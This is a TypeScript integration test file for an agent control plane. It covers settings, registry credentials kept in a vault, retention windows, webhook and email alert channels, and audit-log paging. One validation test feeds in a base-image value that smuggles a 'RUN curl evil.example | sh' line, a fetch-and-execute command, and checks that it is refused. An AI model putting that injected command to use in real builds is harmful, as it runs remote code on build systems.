// Settings, registries, alert channels and the audit log through the contract, on a real control
// plane, a real SQLite file and the real vault: values persist across reopening the plane,
// secrets go to the vault and nowhere else, bad values are refused with E3001 and their field,
// roles are enforced in main, every change is audited, the stored retention window is what the
// retention job uses unless the environment overrides it, and the audit timeline filters and pages.
import { mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import type net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { AuditRow } from '../../../src-shared/ipc/admin-types';
import { openControlPlane } from '../control-plane';
import type { ControlPlane } from '../control-plane';
import { AuditRepository, databaseFile, openDatabase, SecretAuditRepository, TelemetryRepository } from '../store';
import { ManualClock } from '../store/test-support';
import { createConsoleHandlers } from './handlers';
import { connect } from './test-support';

const MASTER_KEY = 'test-only-settings-passphrase';
const REGISTRY_PASSWORD = 'registry-password-never-stored-in-settings';
const WEBHOOK_TOKEN = 'T000-webhook-path-token';

let root: string;
/** Fresh for every test; a test reopens the plane on the same one. */
let dataDir: string;
const opened: { plane: ControlPlane; handlers: ReturnType<typeof createConsoleHandlers> }[] = [];

/** A control plane on the test's data dir with only the given environment (no stray AGENTDOCK_* from the shell). */
function open(env: Record<string, string> = {}, options: { retention?: boolean } = {}) {
  const plane = openControlPlane({ dataDir, env: { AGENTDOCK_MASTER_KEY: MASTER_KEY, ...env }, runtimeVersion: 'test', targets: { docker: undefined }, ...options });
  const handlers = createConsoleHandlers(plane, { mode: 'serve', version: 'test', log: () => undefined, env: {} });
  opened.push({ plane, handlers });
  return {
    plane,
    admin: connect(handlers, { user: 'ann', role: 'admin' }).client,
    developer: connect(handlers, { user: 'dev', role: 'developer' }).client,
    viewer: connect(handlers, { user: 'val', role: 'viewer' }).client,
  };
}

async function closeAll(): Promise<void> {
  for (const { plane, handlers } of opened.splice(0)) {
    handlers.dispose();
    await plane.close();
  }
}

/** Every value of every row of a table, as one string (to prove a secret is not in it). */
function tableText(plane: ControlPlane, table: string): string {
  return JSON.stringify(plane.db.sql.prepare(`SELECT * FROM ${table}`).all());
}

function value<T>(answer: { ok: true; value: T } | { ok: false; error: { code: string; message: string } }): T {
  if (!answer.ok) throw new Error(`${answer.error.code} ${answer.error.message}`);
  return answer.value;
}

beforeAll(() => {
  root = mkdtempSync(path.join(tmpdir(), 'agentdock-admin-'));
});

beforeEach(() => {
  dataDir = mkdtempSync(path.join(root, 'data-'));
});

afterEach(closeAll);

afterAll(() => {
  if (root) rmSync(root, { recursive: true, force: true });
});

describe('settings', () => {
  it('starts from the defaults, persists changes across reopening the plane, and null puts a value back to its default', async () => {
    const first = open();
    const defaults = value(await first.viewer.request('settings:get', {}));
    expect(defaults.baseImages.node).toEqual({ value: 'node:22-bookworm-slim', source: 'default', stored: null, defaultValue: 'node:22-bookworm-slim', envName: 'AGENTDOCK_BASE_IMAGE_NODE', envValue: null });
    expect(defaults.retention.auditDays).toMatchObject({ value: 30, source: 'default', envName: 'AGENTDOCK_RETENTION_AUDIT_DAYS' });

    const updated = value(await first.admin.request('settings:update', { baseImages: { node: 'mirror.example.com/library/node:22' }, retention: { auditDays: 90, eventsDays: 1.5 } }));
    expect(updated.baseImages.node).toMatchObject({ value: 'mirror.example.com/library/node:22', source: 'stored' });
    expect(first.plane.settings.dockerBaseImages()).toEqual({
      javascript: { baseImage: 'mirror.example.com/library/node:22' },
      typescript: { baseImage: 'mirror.example.com/library/node:22' },
      python: { baseImage: 'python:3.12-slim-bookworm', nodeImage: 'mirror.example.com/library/node:22' },
    });
    await closeAll();

    const second = open();
    const reread = value(await second.viewer.request('settings:get', {}));
    expect(reread.baseImages.node).toMatchObject({ value: 'mirror.example.com/library/node:22', source: 'stored' });
    expect(reread.retention.auditDays).toMatchObject({ value: 90, source: 'stored', stored: 90 });
    expect(reread.retention.eventsDays).toMatchObject({ value: 1.5, source: 'stored' });

    const reset = value(await second.admin.request('settings:update', { baseImages: { node: null } }));
    expect(reset.baseImages.node).toMatchObject({ value: 'node:22-bookworm-slim', source: 'default', stored: null });
    expect(reset.retention.auditDays.value).toBe(90);
  });

  it('lets the environment override a stored value, and says so', async () => {
    const first = open();
    value(await first.admin.request('settings:update', { baseImages: { python: 'mirror.example.com/python:3.12' } }));
    await closeAll();
    const second = open({ AGENTDOCK_BASE_IMAGE_PYTHON: 'agentdock/base-python:3' });
    const settings = value(await second.viewer.request('settings:get', {}));
    expect(settings.baseImages.python).toMatchObject({ value: 'agentdock/base-python:3', source: 'environment', stored: 'mirror.example.com/python:3.12', envValue: 'agentdock/base-python:3' });
    expect(second.plane.settings.dockerBaseImages().python.baseImage).toBe('agentdock/base-python:3');
  });

  it('refuses invalid values with E3001 and the field path, changing nothing', async () => {
    const { admin } = open();
    const before = value(await admin.request('settings:get', {}));
    expect(await admin.request('settings:update', { retention: { auditDays: 0.5 } })).toMatchObject({ ok: false, error: { code: 'E3001', message: 'settings:update: retention.auditDays: must be a number of days of at least 1, got 0.5' } });
    expect(await admin.request('settings:update', { retention: { eventsDays: 0 } })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('retention.eventsDays: must be a number of days above 0') } });
    expect(await admin.request('settings:update', { baseImages: { node: 'node:22\nRUN curl evil.example | sh' } })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('baseImages.node: "node:22\nRUN curl evil.example | sh" is not an image reference') } });
    expect(await admin.request('settings:update', { retention: { sometimes: 3 } } as never)).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('retention') } });
    expect(value(await admin.request('settings:get', {}))).toEqual(before);
  });

  it('lets only admins change settings, and audits each change with what it was and what it became', async () => {
    const { admin, developer, viewer, plane } = open();
    expect(await developer.request('settings:update', { retention: { runsDays: 14 } })).toMatchObject({ ok: false, error: { code: 'E3002', message: expect.stringContaining('needs the admin role; dev is signed in as developer') } });
    expect(await viewer.request('settings:update', { retention: { runsDays: 14 } })).toMatchObject({ ok: false, error: { code: 'E3002' } });
    value(await admin.request('settings:update', { retention: { runsDays: 14 } }));
    value(await admin.request('settings:update', { retention: { runsDays: 21 } }));
    const entries = plane.repositories.audit.list({ action: 'settings:update' });
    expect(entries.map((entry) => [entry.actor, entry.role, entry.success, entry.details])).toEqual([
      ['ann', 'admin', true, { changed: { 'retention.runsDays': { from: 14, to: 21 } } }],
      ['ann', 'admin', true, { changed: { 'retention.runsDays': { from: null, to: 14 } } }],
    ]);
  });
});

describe('container registries', () => {
  it('keeps the password in the vault only: not in settings:get, the settings tables or the audit log; persists across reopening', async () => {
    const first = open();
    const added = value(await first.admin.request('registries:add', { url: 'https://Registry.Example.com:5000/', username: 'robot$ci', password: REGISTRY_PASSWORD }));
    expect(added).toMatchObject({ url: 'registry.example.com:5000', username: 'robot$ci', hasPassword: true, createdBy: 'ann' });
    const settings = value(await first.viewer.request('settings:get', {}));
    expect(settings.registries).toEqual([added]);
    expect(JSON.stringify(settings)).not.toContain(REGISTRY_PASSWORD);
    for (const table of ['settings', 'container_registries', 'audit_log', 'secret_audit_log']) expect(tableText(first.plane, table)).not.toContain(REGISTRY_PASSWORD);
    expect(await first.plane.settings.registryPassword(added.id, { actor: 'ann', role: 'admin' })).toBe(REGISTRY_PASSWORD);
    expect(await first.admin.request('registries:add', { url: 'registry.example.com:5000' })).toMatchObject({ ok: false, error: { code: 'E2007', message: expect.stringContaining('already configured') } });
    await closeAll();

    const second = open();
    expect(value(await second.viewer.request('settings:get', {})).registries).toEqual([added]);
    const withoutPassword = value(await second.admin.request('registries:update', { id: added.id, password: null, username: 'robot2' }));
    expect(withoutPassword).toMatchObject({ hasPassword: false, username: 'robot2' });
    expect(await second.plane.settings.registryPassword(added.id, { actor: 'ann', role: 'admin' })).toBeUndefined();
    expect(value(await second.admin.request('registries:remove', { id: added.id }))).toMatchObject({ url: 'registry.example.com:5000' });
    expect(value(await second.viewer.request('settings:get', {})).registries).toEqual([]);
    expect(await second.admin.request('registries:remove', { id: added.id })).toMatchObject({ ok: false, error: { code: 'E3008' } });
    expect(second.plane.repositories.audit.list({ action: 'registry:*' }).map((entry) => [entry.action, entry.target, entry.details])).toEqual([
      ['registry:remove', 'registry:registry.example.com:5000', {}],
      ['registry:update', 'registry:registry.example.com:5000', { username: { from: 'robot$ci', to: 'robot2' }, password: 'removed' }],
      ['registry:add', 'registry:registry.example.com:5000', { username: null, password: 'none' }],
      ['registry:add', 'registry:registry.example.com:5000', { username: 'robot$ci', password: 'set' }],
    ]);
    expect(second.plane.repositories.audit.list({ action: 'registry:add' }).map((entry) => entry.success)).toEqual([false, true]);
  });

  it('refuses addresses that are not registries and plain http beyond localhost, with the field', async () => {
    const { admin, developer } = open();
    expect(await admin.request('registries:add', { url: 'registry example.com' })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('url: "registry example.com" is not a registry address') } });
    expect(await admin.request('registries:add', { url: 'http://registry.example.com', password: 'x' })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('url: must use https') } });
    expect(await admin.request('registries:add', { url: 'ghcr.io', username: 'has space' })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('username: must be 1–255 printable characters') } });
    expect(await developer.request('registries:add', { url: 'ghcr.io' })).toMatchObject({ ok: false, error: { code: 'E3002' } });
  });
});

describe('retention windows', () => {
  /** A telemetry event `days` old for a fresh agent; returns how to count it. */
  function oldEvent(plane: ControlPlane, days: number): () => number {
    const agent = plane.repositories.agents.create(`old-${days}-${Date.now() % 100_000}`);
    new TelemetryRepository(plane.db).ingest([{ agentId: agent.id, source: 'test', eventId: 1, type: 'token', time: new Date(Date.now() - days * 86_400_000).toISOString(), data: {} }]);
    return () => (plane.db.sql.prepare('SELECT count(*) AS n FROM telemetry_events WHERE agent_id = ?').get(agent.id) as { n: number }).n;
  }

  it('uses the stored window as the default and lets AGENTDOCK_RETENTION_*_DAYS override it', async () => {
    const setup = open();
    value(await setup.admin.request('settings:update', { retention: { eventsDays: 2 } }));
    const count = oldEvent(setup.plane, 5);
    expect(count()).toBe(1);
    await closeAll();

    // The environment says 10 days: the 5-day-old event stays.
    const overridden = open({ AGENTDOCK_RETENTION_EVENTS_DAYS: '10' }, { retention: true });
    expect(overridden.plane.settings.retentionWindows().eventsDays).toBe(10);
    expect(value(await overridden.viewer.request('settings:get', {})).retention.eventsDays).toMatchObject({ value: 10, source: 'environment', stored: 2, envValue: 10 });
    expect((overridden.plane.db.sql.prepare('SELECT count(*) AS n FROM telemetry_events').get() as { n: number }).n).toBe(1);
    await closeAll();

    // No override: the stored 2 days apply at the retention run on open.
    const stored = open({}, { retention: true });
    expect(stored.plane.settings.retentionWindows()).toEqual({ runsDays: 30, auditDays: 30, eventsDays: 2, rollupHistoryDays: 90, alertsDays: 30 });
    expect((stored.plane.db.sql.prepare('SELECT count(*) AS n FROM telemetry_events').get() as { n: number }).n).toBe(0);
  });

  it('refuses an environment window by the same rule as a stored one', () => {
    expect(() => open({ AGENTDOCK_RETENTION_AUDIT_DAYS: '0.5' }, { retention: true })).toThrow(expect.objectContaining({ code: 'E2050', message: expect.stringContaining('AGENTDOCK_RETENTION_AUDIT_DAYS must be a number of days of at least 1') }));
  });
});

describe('alert channels', () => {
  let server: http.Server;
  let port: number;
  const received: { path: string; body: string }[] = [];

  beforeAll(async () => {
    server = http.createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      request.on('end', () => {
        received.push({ path: request.url ?? '', body });
        response.writeHead(200).end('ok');
      });
    });
    port = await new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as net.AddressInfo).port)));
  });

  afterAll(async () => {
    await new Promise((resolve) => server?.close(resolve));
  });

  it('adds, lists, tests, disables and removes a webhook; its URL lives only in the vault; every change is audited', async () => {
    const { admin, viewer, developer, plane } = open();
    const url = `http://127.0.0.1:${port}/hooks/${WEBHOOK_TOKEN}`;
    const added = value(await admin.request('alerts:channels:add', { kind: 'webhook', name: 'ops', url, minSeverity: 'critical' }));
    expect(added).toMatchObject({ name: 'ops', kind: 'webhook', enabled: true, minSeverity: 'critical', destination: `127.0.0.1:${port}`, hasSecret: true });
    expect(value(await viewer.request('alerts:channels:list', {}))).toEqual([added]);

    const tested = value(await admin.request('alerts:channels:test', { name: 'ops' }));
    expect(tested).toEqual({ channel: 'ops', ok: true, attempts: 1 });
    expect(received.at(-1)).toMatchObject({ path: `/hooks/${WEBHOOK_TOKEN}`, body: expect.stringContaining('test message for channel ops') });

    expect(value(await admin.request('alerts:channels:update', { name: 'ops', enabled: false }))).toMatchObject({ enabled: false, minSeverity: 'critical' });
    expect(await developer.request('alerts:channels:update', { name: 'ops', enabled: true })).toMatchObject({ ok: false, error: { code: 'E3002' } });
    expect(await developer.request('alerts:channels:test', { name: 'ops' })).toMatchObject({ ok: false, error: { code: 'E3002' } });
    expect(await admin.request('alerts:channels:update', { name: 'nope', enabled: true })).toMatchObject({ ok: false, error: { code: 'E3008' } });
    for (const table of ['alert_channels', 'audit_log', 'settings']) expect(tableText(plane, table)).not.toContain(WEBHOOK_TOKEN);

    expect(value(await admin.request('alerts:channels:remove', { name: 'ops' }))).toMatchObject({ name: 'ops' });
    expect(value(await viewer.request('alerts:channels:list', {}))).toEqual([]);
    expect(plane.repositories.audit.list({ action: 'alerts:channel:*' }).map((entry) => [entry.action, entry.actor, entry.target, entry.success])).toEqual([
      ['alerts:channel:remove', 'ann', 'channel:ops', true],
      ['alerts:channel:update', 'ann', 'channel:ops', true],
      ['alerts:channel:test', 'ann', 'channel:ops', true],
      ['alerts:channel:add', 'ann', 'channel:ops', true],
    ]);
  });

  it('refuses unsafe channels with E3001 and the field the rule is about', async () => {
    const { admin } = open();
    expect(await admin.request('alerts:channels:add', { kind: 'webhook', name: 'plain', url: 'http://hooks.example.com/x' })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('url: A webhook URL must use https') } });
    expect(
      await admin.request('alerts:channels:add', { kind: 'email', name: 'mail', host: 'smtp.example.com', port: 25, tls: 'none', user: 'ops', password: 'p4ss', from: 'agentdock@example.com', to: ['ops@example.com'] }),
    ).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('tls: Plain SMTP to smtp.example.com would send the password unencrypted') } });
    expect(await admin.request('alerts:channels:add', { kind: 'email', name: 'mail', host: 'smtp.example.com', port: 587, tls: 'starttls', from: 'agentdock@example.com', to: ['not-an-address'] })).toMatchObject({
      ok: false,
      error: { code: 'E3001', message: expect.stringContaining('to: The recipient "not-an-address" is not an e-mail address') },
    });
    const email = value(await admin.request('alerts:channels:add', { kind: 'email', name: 'mail', host: 'smtp.example.com', port: 587, tls: 'starttls', user: 'ops', password: 'p4ss-word', from: 'agentdock@example.com', to: ['ops@example.com'] }));
    expect(email).toMatchObject({ destination: 'smtp.example.com:587 → ops@example.com', hasSecret: true, email: { user: 'ops', tls: 'starttls' } });
    expect(JSON.stringify(email)).not.toContain('p4ss-word');
  });
});

describe('audit:list', () => {
  const START = Date.parse('2030-03-01T10:00:00.000Z');

  /** Writes a known history through the real repositories on a second connection with a clock the test moves. */
  function seed(plane: ControlPlane): void {
    const clock = new ManualClock(START);
    const db = openDatabase(databaseFile(plane.dataDir), { clock: clock.now });
    try {
      const audit = new AuditRepository(db);
      const secrets = new SecretAuditRepository(db);
      const alpha = plane.repositories.agents.create('alpha');
      const step = (): void => clock.advance(60_000);
      audit.record({ actor: 'ann', role: 'admin', action: 'deploy:create', target: 'agent:alpha', success: true, details: { version: 'v1' } }); // 10:00
      step();
      secrets.record({ operation: 'CREATE', secretName: 'OPENAI_API_KEY', environment: 'prod', agentId: alpha.id, requesterRole: 'admin', actor: 'ann', success: true }); // 10:01
      step();
      audit.record({ actor: 'bob', role: 'developer', action: 'agent:restart', target: 'agent:beta', success: false, error: 'health gate timeout after 60 s' }); // 10:02
      step();
      secrets.record({ operation: 'READ', secretName: 'OPENAI_API_KEY', environment: 'prod', requesterRole: 'admin', actor: 'bob', success: true }); // 10:03
      step();
      audit.record({ actor: 'ann', role: 'admin', action: 'deploy:rollback', target: 'agent:alpha', success: true, details: { version: 'v1' } }); // 10:04
      step();
      for (let index = 0; index < 5; index++) {
        audit.record({ actor: 'ann', role: 'admin', action: 'key:create', target: 'agent:beta', success: true, details: { keyId: `key_${index}` } }); // 10:05 ×5, same instant
        secrets.record({ operation: 'LIST', requesterRole: 'viewer', actor: 'val', success: true }); // 10:05 ×5
      }
    } finally {
      db.close();
    }
  }

  async function everything(client: ReturnType<typeof open>['viewer'], filter: Record<string, unknown>, limit: number): Promise<{ pages: AuditRow[][]; cursors: (string | null)[] }> {
    const pages: AuditRow[][] = [];
    const cursors: (string | null)[] = [];
    let before: string | undefined;
    for (;;) {
      const page = value(await client.request('audit:list', { ...filter, limit, ...(before ? { before } : {}) }));
      pages.push(page.entries);
      cursors.push(page.nextCursor);
      if (!page.nextCursor) return { pages, cursors };
      before = page.nextCursor;
    }
  }

  it('merges the admin log and the secret trail newest first, and pages through them without gaps or repeats', async () => {
    const { viewer, plane } = open();
    seed(plane);
    const all = value(await viewer.request('audit:list', {})).entries;
    expect(all.map((row) => `${row.time.slice(11, 16)} ${row.action} ${row.target}`)).toEqual([
      ...Array.from({ length: 5 }, () => '10:05 key:create agent:beta'),
      ...Array.from({ length: 5 }, () => '10:05 secret:list secrets'),
      '10:04 deploy:rollback agent:alpha',
      '10:03 secret:read secret:OPENAI_API_KEY',
      '10:02 agent:restart agent:beta',
      '10:01 secret:create secret:OPENAI_API_KEY',
      '10:00 deploy:create agent:alpha',
    ]);
    expect(all[11]).toMatchObject({ source: 'secret', actor: 'bob', role: 'admin', details: { environment: 'prod' } });
    expect(all[13]).toMatchObject({ details: { environment: 'prod', agent: 'alpha' } });

    const { pages, cursors } = await everything(viewer, {}, 4);
    expect(pages.map((page) => page.length)).toEqual([4, 4, 4, 3]);
    expect(cursors.at(-1)).toBeNull();
    expect(pages.flat().map((row) => row.key)).toEqual(all.map((row) => row.key));

    // Rows written after the first page never shift the next ones.
    const first = value(await viewer.request('audit:list', { limit: 4 }));
    plane.repositories.audit.record({ actor: 'ann', role: 'admin', action: 'deploy:create', target: 'agent:gamma', success: true });
    const second = value(await viewer.request('audit:list', { limit: 4, before: first.nextCursor! }));
    expect(second.entries.map((row) => row.key)).toEqual(all.slice(4, 8).map((row) => row.key));
  });

  it('filters by actor, action (exact or prefix), agent, time window and text, across both logs', async () => {
    const { viewer, plane } = open();
    seed(plane);
    const list = async (filter: Record<string, unknown>): Promise<string[]> => value(await viewer.request('audit:list', filter)).entries.map((row) => `${row.actor} ${row.action} ${row.target}`);
    expect(await list({ actor: 'bob' })).toEqual(['bob secret:read secret:OPENAI_API_KEY', 'bob agent:restart agent:beta']);
    expect(await list({ action: 'deploy:*' })).toEqual(['ann deploy:rollback agent:alpha', 'ann deploy:create agent:alpha']);
    expect(await list({ action: 'secret:read' })).toEqual(['bob secret:read secret:OPENAI_API_KEY']);
    expect(await list({ action: 'secret:*', actor: 'ann' })).toEqual(['ann secret:create secret:OPENAI_API_KEY']);
    expect(await list({ agent: 'alpha' })).toEqual(['ann deploy:rollback agent:alpha', 'ann secret:create secret:OPENAI_API_KEY', 'ann deploy:create agent:alpha']);
    expect(await list({ from: '2030-03-01T10:01:00.000Z', to: '2030-03-01T12:03:00+02:00' })).toEqual(['bob agent:restart agent:beta', 'ann secret:create secret:OPENAI_API_KEY']);
    expect(await list({ text: 'GATE TIMEOUT' })).toEqual(['bob agent:restart agent:beta']);
    expect(await list({ text: 'openai' })).toEqual(['bob secret:read secret:OPENAI_API_KEY', 'ann secret:create secret:OPENAI_API_KEY']);
    expect(await list({ text: '100%' })).toEqual([]);
    expect(await list({ agent: 'never-existed' })).toEqual([]);
    const keys = await everything(viewer, { action: 'key:create' }, 2);
    expect(keys.pages.map((page) => page.length)).toEqual([2, 2, 1]);
  });

  it('refuses a cursor it did not make and input outside the contract, with E3001', async () => {
    const { viewer } = open();
    expect(await viewer.request('audit:list', { before: 'x1' })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('before') } });
    expect(await viewer.request('audit:list', { limit: 501 })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('limit') } });
    expect(await viewer.request('audit:list', { from: 'yesterday' })).toMatchObject({ ok: false, error: { code: 'E3001', message: expect.stringContaining('from') } });
  });
});
